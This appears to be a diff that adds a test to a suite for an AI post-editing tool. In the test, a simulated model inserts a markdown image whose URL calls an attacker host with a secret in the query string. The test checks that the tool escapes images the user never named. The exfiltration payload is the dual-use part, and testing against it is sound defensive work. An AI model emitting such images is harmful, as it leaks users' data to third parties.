@@ -252,6 +252,20 @@ describe.each(Object.entries(ROADS))("orders in %s", (_, { tool, input = {}, lay
   });
 });
 
+test("a picture that a model puts into a post is a link, unless a person named it or the post shows it", async () => {
+  const shownBefore = "![Chart](https://acme.example/chart.png)";
+  const named = "![Logo](https://acme.example/logo.png)";
+  const quietId = await testPost(db, organization.id, now, { markdown: `# Notes\n\n${shownBefore}\n` });
+  const leak = `![x](https://${ATTACKER}/p.png?d=secret)`;
+  const markdown = `# Notes\n\n${shownBefore} ${named} ${leak}`;
+  await obedient({ calls: [{ name: "update_post", input: { postId: quietId, markdown } }] });
+  const chatId = await ask("Add https://acme.example/logo.png");
+  expect(await work()).toBe("waiting");
+  const [approval] = (await shown(chatId)).approvals;
+  expect(approval?.input.markdown).toBe(markdown.replace(leak, `\\${leak}`));
+  await call("stopChat", ctx, { params: { chatId } });
+});
+
 describe("a proposal", () => {
   let quietId: string;
   beforeEach(async () => {
